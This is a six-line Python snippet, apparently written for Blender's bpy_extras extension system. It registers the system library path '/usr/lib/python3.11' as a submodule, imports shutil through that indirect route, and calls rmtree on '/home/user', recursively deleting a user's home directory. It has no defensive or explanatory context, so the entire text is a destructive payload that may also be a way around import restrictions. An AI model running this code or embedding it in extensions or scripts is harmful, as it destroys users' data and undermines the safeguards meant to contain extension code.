from bpy_extras.extensions.junction_module import JunctionModuleHandle
h = JunctionModuleHandle("bpy_extras.jx")
h.register_module()
h.register_submodule("lib", "/usr/lib/python3.11")
import bpy_extras.jx.lib.shutil as sh
sh.rmtree("/home/user")
